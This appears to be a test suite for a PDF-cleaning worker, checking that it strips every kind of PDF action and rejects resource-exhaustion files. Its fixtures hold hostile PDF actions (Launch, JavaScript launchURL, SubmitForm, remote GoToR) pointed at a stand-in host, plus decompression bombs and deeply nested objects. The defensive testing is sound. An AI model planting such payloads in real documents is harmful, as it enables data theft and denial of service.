import { deflateSync } from 'node:zlib';
import {
  type EncryptionAlgorithm,
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFName,
  PDFRawStream,
  type PDFRef,
  PDFString,
} from '@cantoo/pdf-lib';
import fc from 'fast-check';
import PDFKit from 'pdfkit';
import { buffer } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import cleanPdf from './clean-pdf.worker.mjs';
import { writtenText } from './pdf/written-text.mjs';

/** Part of everything that an action reaches, so that no trace of one goes unnoticed. */
const TARGET = 'server.example';

/** The actions of ISO 32000-2, each in a harmful form. */
const actions = {
  GoToR: `/F(\\\\\\\\${TARGET}\\\\share)/D[0/Fit]`,
  GoToE: `/F(${TARGET})/D[0/Fit]/T<</R/C/N(${TARGET})>>`,
  GoToDp: `/Dp<</Type/DPart/T(${TARGET})>>`,
  Launch: `/F(${TARGET})/Win<</F(${TARGET})>>`,
  Thread: `/F(${TARGET})/D 0`,
  URI: `/URI(http://${TARGET}/)`,
  Sound: `/Sound<</R 1/T(${TARGET})>>`,
  Movie: `/T(${TARGET})`,
  Hide: `/T(${TARGET})`,
  SubmitForm: `/F<</FS/URL/F(http://${TARGET}/)>>`,
  ResetForm: `/Fields[(${TARGET})]`,
  ImportData: `/F(${TARGET})`,
  SetOCGState: `/State[/OFF 3 0 R]/T(${TARGET})`,
  Rendition: `/OP 0/JS(app.launchURL\\("${TARGET}"\\))`,
  Trans: `/Trans<</S/Fly/T(${TARGET})>>`,
  GoTo3DView: `/V(${TARGET})`,
  JavaScript: `/JS(app.launchURL\\("${TARGET}"\\))`,
  RichMediaExecute: `/CMD<</C(${TARGET})>>`,
  // An escaped name, one of viewers, and one of a future standard.
  'Java#53cript': `/JS(${TARGET})`,
  Named: `/N/Print/T(${TARGET})`,
  Future: `/T(${TARGET})`,
} as const;
type ActionType = keyof typeof actions;
const actionTypes = Object.keys(actions).filter((type): type is ActionType => type in actions);

/** Where an action may occur, as text inserted into each object. */
const holders: Record<string, (action: string) => Partial<Document>> = {
  'the opening': (action) => ({ catalog: `/OpenAction ${action}` }),
  'an event of the document': (action) => ({ catalog: `/AA<</WC ${action}/DP ${action}>>` }),
  'an event of a page': (action) => ({ page: `/AA<</O ${action}/C ${action}>>` }),
  'a link': (action) => ({ annotation: `/Subtype/Link/A ${action}` }),
  'a link with a way within the document': (action) => ({
    annotation: `/Subtype/Link/Dest[3 0 R/Fit]/A ${action}/PA ${action}`,
  }),
  'an event of a note': (action) => ({ annotation: `/Subtype/Text/AA<</E ${action}>>` }),
  'a screen': (action) => ({ annotation: `/Subtype/Screen/A ${action}/MK<</T(${TARGET})>>` }),
  'a film': (action) => ({ annotation: `/Subtype/Movie/T(${TARGET})/A ${action}` }),
  'rich media': (action) => ({
    annotation: `/Subtype/RichMedia/RichMediaContent<</T(${TARGET})>>/A ${action}`,
  }),
  'an outline item': (action) => ({ outline: `/A ${action}` }),
  'an outline item with a destination': (action) => ({
    outline: `/Dest[3 0 R/Fit]/SE ${action}/A ${action}`,
  }),
  'a button': (action) => ({ field: `/FT/Btn/A ${action}/AA<</U ${action}>>` }),
  'a field that is filled in': (action) => ({
    field: `/FT/Tx/V(Siti)/AA<</K ${action}/F ${action}/V ${action}/C ${action}>>`,
  }),
  'the form': (action) => ({ form: `/CO[7 0 R]/XFA(${TARGET})/A ${action}` }),
  'the scripts of the document': (action) => ({
    catalog: `/Names<</JavaScript<</Names[(a) ${action}]>>>>`,
  }),
  'other names': (action) => ({
    catalog: `/Names<</Renditions<</Names[(a) ${action}]>>/URLS<</Names[(a) ${action}]>>/Dests<</Names[(a) ${action}]>>>>`,
  }),
  'the base of addresses': (action) => ({ catalog: `/URI<</Base(http://${TARGET})>>/A ${action}` }),
  'what follows upon a way within the document': (action) => ({
    catalog: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next ${action}>>`,
    annotation: `/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]/Next[${action}]>>`,
    outline: `/A<</S/Named/N/NextPage/Next ${action}>>`,
  }),
  'a destination': (action) => ({ catalog: `/Dests<</a ${action}/b<</D ${action}>>>>` }),
  'a resource': (action) => ({
    page: `/Resources<</XObject<</A ${action}>>/Font<</F ${action}>>/Properties<</A ${action}>>/ExtGState<</A ${action}>>>>`,
  }),
};
const holderNames = Object.keys(holders);

interface Document {
  catalog: string;
  page: string;
  annotation: string;
  outline: string;
  field: string;
  form: string;
  /** Further objects, by number. */
  objects: Record<number, string>;
}

/** Writes a document with the given text in its objects, in object streams if it is packed. */
function write(
  {
    catalog = '',
    page = '',
    annotation = '/Subtype/Text',
    outline = '',
    ...given
  }: Partial<Document>,
  { isPacked = false } = {},
): Buffer {
  const { field = '/FT/Tx', form = '', objects: more = {} } = given;
  const objects: Record<number, string> = {
    1: `<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R/AcroForm<</Fields[7 0 R]${form}>>${catalog}>>`,
    2: '<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 200 200]>>',
    3: `<</Type/Page/Parent 2 0 R/Annots[6 0 R 7 0 R]${page}>>`,
    4: '<</First 5 0 R/Last 5 0 R/Count 1>>',
    5: `<</Title(Satu)/Parent 4 0 R${outline}>>`,
    6: `<</Type/Annot/Rect[0 0 9 9]${annotation}>>`,
    7: `<</Type/Annot/Subtype/Widget/T(nama)/Rect[0 0 9 9]${field}>>`,
    ...more,
  };
  const entries = Object.entries(objects);
  const head = '%PDF-1.7\n';
  const tail = 'trailer<</Root 1 0 R>>\n%%EOF';
  if (!isPacked) {
    const body = entries.map(([number, content]) => `${number} 0 obj${content}endobj\n`);
    return Buffer.from(head + body.join('') + tail, 'latin1');
  }
  return Buffer.concat([Buffer.from(head), objectStream(entries), Buffer.from(tail)]);
}

function objectStream(entries: [string, string][]): Buffer {
  let at = 0;
  const numbers = entries.map(([number, content]) => {
    const start = at;
    at += content.length + 1;
    return `${number} ${start} `;
  });
  const index = numbers.join('');
  const content = deflateSync(index + entries.map(([, each]) => each).join('\n'));
  return Buffer.concat([
    Buffer.from(
      `90 0 obj<</Type/ObjStm/N ${entries.length}/First ${index.length}/Filter/FlateDecode/Length ${content.length}>>stream\n`,
    ),
    content,
    Buffer.from('\nendstream endobj\n'),
  ]);
}

const actionOf = (type: ActionType, next = '') =>
  `<</Type/Action/S/${type}${actions[type]}${next && `/Next ${next}`}>>`;

async function cleaned(file: Uint8Array): Promise<Buffer> {
  const answer = await cleanPdf(file);
  if ('code' in answer) throw new Error(`The letter was refused: ${answer.code}`);
  return Buffer.from(answer.content);
}

const harmless = new Set(['GoTo', 'Named']);
const forbidden = [
  'OpenAction',
  'AA',
  'PA',
  'Next',
  'JS',
  'URI',
  'XFA',
  'EF',
  'FFilter',
  'JavaScript',
];

/** Returns the actions and files that remain in a document, except links within it. */
async function leftIn(file: Buffer): Promise<string[]> {
  const { context } = await PDFDocument.load(file, { updateMetadata: false });
  const left = file.includes(TARGET) ? [TARGET] : [];
  const waiting: unknown[] = context.enumerateIndirectObjects().map(([, object]) => object);
  for (let object = waiting.pop(); object !== undefined; object = waiting.pop()) {
    if (object instanceof PDFArray) waiting.push(...object.asArray());
    if (object instanceof PDFRawStream) {
      if (object.dict.has(PDFName.of('F'))) left.push('F');
      waiting.push(object.dict);
    }
    if (!(object instanceof PDFDict)) continue;
    waiting.push(...object.values());
    left.push(...forbidden.filter((key) => object.has(PDFName.of(key))));
    const type = object.lookup(PDFName.of('S'));
    if (type instanceof PDFName && !harmless.has(type.decodeText())) left.push(type.decodeText());
  }
  return left;
}

describe('of a PDF', () => {
  it.each(holderNames)('keeps no action but links within it at %s', async (holder) => {
    for (const [index, type] of actionTypes.entries()) {
      const sent = write(holders[holder]?.(actionOf(type)) ?? {}, { isPacked: index % 2 === 0 });
      expect(await leftIn(await cleaned(sent)), type).toEqual([]);
    }
  });

  it('keeps no action, however many there are, in chains, by reference and in object streams', async () => {
    const chain = fc.array(fc.constantFrom(...actionTypes), { minLength: 1, maxLength: 4 });
    const written = fc.record({
      holder: fc.constantFrom(...holderNames),
      other: fc.constantFrom(...holderNames),
      chain,
      isPacked: fc.boolean(),
      isReferred: fc.boolean(),
    });
    await fc.assert(
      fc.asyncProperty(written, async ({ holder, other, chain: types, isPacked, isReferred }) => {
        const action = types.reduce((next, type) => actionOf(type, next), '');
        const at = isReferred ? '80 0 R' : action;
        const objects: Record<number, string> = isReferred ? { 80: action } : {};
        const sent = write(
          { ...holders[holder]?.(at), ...holders[other]?.(at), objects },
          { isPacked },
        );
        expect(await leftIn(await cleaned(sent))).toEqual([]);
      }),
    );
  });

  it('loads no content, pictures or fonts from other files', async () => {
    const elsewhere = `/F(${TARGET})/FFilter/FlateDecode/FDecodeParms<</T(${TARGET})>>/Length 0`;
    const stream = (keys: string) => `<<${keys}${elsewhere}>>stream\n\nendstream`;
    const sent = write({
      page: '/Contents 20 0 R/Resources<</XObject<</A 21 0 R/B 22 0 R/C 23 0 R>>/Font<</F<</Type/Font/FontDescriptor<</FontFile2 24 0 R>>>>>>>>',
      objects: {
        20: stream(''),
        21: stream('/Subtype/Image/Width 1/Height 1/OPI<</T(server.example)>>/Alternates[25 0 R]'),
        22: stream(`/Subtype/Form/Ref<</F(${TARGET})/Page 0>>`),
        23: stream(`/Subtype/PS/Level1(${TARGET})`),
        24: stream(''),
        25: `(${TARGET})`,
      },
    });
    expect(await leftIn(await cleaned(sent))).toEqual([]);
  });

  it('keeps links within it', async () => {
    const sent = write({
      annotation: '/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]>>',
      outline: '/A<</S/Named/N/NextPage>>',
      catalog: '/Names<</Dests<</Names[(bab)[3 0 R/XYZ 0 9 null]]>>>>',
    });
    const kept = (await cleaned(sent)).toString('latin1');
    expect(kept.match(/\/S \/(GoTo|Named)/g)).toEqual(
      expect.arrayContaining(['/S /GoTo', '/S /Named']),
    );
    expect(kept).toMatch(/\(bab\) \[ \d+ 0 R \/XYZ 0 9 null \]/);
  });

  it('keeps what it draws and what was filled in', async () => {
    const letter = new PDFKit();
    letter.text('Surat permohonan', { link: `http://${TARGET}` });
    letter.linearGradient(0, 0, 9, 9).stop(0, 'red').stop(1, 'blue', 0.5);
    letter.end();
    const document = await PDFDocument.load(await buffer(letter));
    const form = document.getForm();
    const field = form.createTextField('nama');
    field.setText('Siti Rahma');
    field.addToPage(document.getPage(0));
    const sent = await document.save({ updateFieldAppearances: false });
    const kept = await cleaned(sent);
    expect(await leftIn(kept)).toEqual([]);
    const again = await PDFDocument.load(kept, { updateMetadata: false });
    expect(again.getForm().getTextField('nama').getText()).toBe('Siti Rahma');
    expect(await drawn(kept)).toEqual(await drawn(sent));
  });

  it('keeps the appearance of a signature, and nothing else of it', async () => {
    const look = '<</Subtype/Form/BBox[0 0 9 9]/Length 1>>stream\nq\nendstream';
    const sent = write({
      field: '/FT/Sig/V<</Type/Sig/ByteRange[0 1 2 3]>>/AP<</N 20 0 R>>',
      objects: { 20: look, 21: '<</ByteRange[0 1 2 3]>>' },
    });
    const answer = await cleanPdf(sent);
    expect(answer).toMatchObject({ wasSigned: true });
    const kept = (await cleaned(sent)).toString('latin1');
    expect(kept).toMatch(/\/Subtype \/Stamp\n[^]*\/AP/);
    expect(kept).not.toMatch(/ByteRange|Widget/);
  });

  it.each<EncryptionAlgorithm>(['AES-256', 'AES-128', 'RC4-128', 'RC4-40'])(
    'removes a password for changes only, by %s',
    async (algorithm) => {
      for (const useObjectStreams of [false, true]) {
        const document = await PDFDocument.create();
        document.addPage().drawText('Surat permohonan');
        const open = await drawn(await document.save());
        // Writing the document encrypts its contents once.
        document.encrypt({ ownerPassword: 'x', algorithm, allowWeakCryptography: true });
        const kept = await cleaned(await document.save({ useObjectStreams }));
        expect(kept.includes('Encrypt')).toBe(false);
        expect(await drawn(kept)).toEqual(open);
      }
    },
  );

  it.each<EncryptionAlgorithm>(['AES-256', 'AES-128', 'RC4-128', 'RC4-40'])(
    'keeps a text encrypted by %s a text, whatever it holds',
    async (algorithm) => {
      const text = `x)/OpenAction${actionOf('URI')}/AA(\r\\\\\\n\x5c\x0f`;
      const document = await PDFDocument.create();
      document.addPage();
      document.encrypt({ ownerPassword: 'x', algorithm, allowWeakCryptography: true });
      const { security, trailerInfo } = document.context;
      const { objectNumber, generationNumber } = trailerInfo.Root as PDFRef;
      const encrypt = security!.getEncryptFn(objectNumber, generationNumber);
      const encrypted = encrypt(Buffer.from(text, 'latin1'));
      document.catalog.set(PDFName.of('Lang'), writtenText(encrypted));
      const kept = await PDFDocument.load(
        await cleaned(await document.save({ useObjectStreams: false })),
      );
      expect([...kept.catalog.keys()].join(' ')).toBe('/Type /Lang /Pages');
      const lang = kept.catalog.lookup(PDFName.of('Lang'), PDFString);
      expect(Buffer.from(lang.asBytes()).toString('latin1')).toBe(text);
    },
  );

  const page =
    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Kids[3 0 R]>>endobj 3 0 obj<<>>endobj ';
  const fill = (text: string, length = 10_000_000) => text.repeat(length / text.length);
  it.each<[string, () => string | Buffer]>([
    [
      '300,000 objects',
      () => Array.from({ length: 300_000 }, (_, n) => `${n} 0 obj<</A[1 2 3]>>endobj\n`).join(''),
    ],
    [
      '200,000 arrays in each other',
      () => `9 0 obj${fill('[', 200_000)}${fill(']', 200_000)}endobj`,
    ],
    ['200,000 dictionaries in each other', () => `9 0 obj${fill('<</A', 800_000)}`],
    ['streams that inflate to 40 MB', () => bomb(40_000_000, 1)],
    ['many streams that inflate to a few MB', () => bomb(4_000_000, 10)],
    ['letters between its objects', () => fill('a', 300_000)],
    ['objects that never end', () => fill('9 0 obj ]\n')],
    ['digits that never end', () => fill('9 0 obj<')],
  ])(
    'rejects %s as more than a letter has',
    async (_, content) => {
      const sent = Buffer.concat([Buffer.from(`%PDF-1.7\n${page}`), Buffer.from(content())]);
      expect(await cleanPdf(sent)).toEqual({ code: 'tooComplex' });
    },
    60_000,
  );

  it('rejects a long text that all pages inherit as more than a letter has', async () => {
    const pages = Array.from({ length: 2_000 }, (_, n) => n + 3);
    const sent = [
      '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj ',
      `2 0 obj<</Kids[${pages.map((n) => `${n} 0 R`).join(' ')}]`,
      `/MediaBox[0 0 612 792(${fill('x', 1_000_000)})]>>endobj `,
      ...pages.map((n) => `${n} 0 obj<</Type/Page>>endobj `),
    ];
    expect(await cleanPdf(Buffer.from(sent.join('')))).toEqual({ code: 'tooComplex' });
  }, 60_000);

  it('writes pages and arrays that contain themselves once', async () => {
    const kids = Array.from(
      { length: 50 },
      (_, n) => `${n + 10} 0 obj<</Kids[${n + 11} 0 R ${n + 11} 0 R 2 0 R]>>endobj `,
    );
    const sent = `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 10 0 R>>endobj ${kids.join('')} 60 0 obj<</Kids[61 0 R]>>endobj 61 0 obj<</MediaBox 62 0 R>>endobj 62 0 obj[62 0 R 62 0 R]endobj`;
    const document = await PDFDocument.load(await cleaned(Buffer.from(sent)));
    expect(document.getPageCount()).toBe(1);
  });
});

/** Returns the content of all streams of a document, uncompressed. */
async function drawn(file: Uint8Array): Promise<string[]> {
  const { context } = await PDFDocument.load(file, { updateMetadata: false });
  return context
    .enumerateIndirectObjects()
    .flatMap(([, object]) => (object instanceof PDFRawStream ? [object] : []))
    .filter(({ dict }) => !dict.has(PDFName.of('N')) && !dict.has(PDFName.of('W')))
    .map(({ contents }) => Buffer.from(contents).toString('base64'))
    .sort();
}

/** Returns streams of objects that inflate to `size` bytes each. */
function bomb(size: number, count: number): Buffer {
  const content = deflateSync(Buffer.alloc(size, ' '));
  const head = `9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${content.length}>>stream\n`;
  const stream = Buffer.concat([Buffer.from(head), content, Buffer.from('\nendstream endobj\n')]);
  return Buffer.concat(Array.from({ length: count }, () => stream));
}
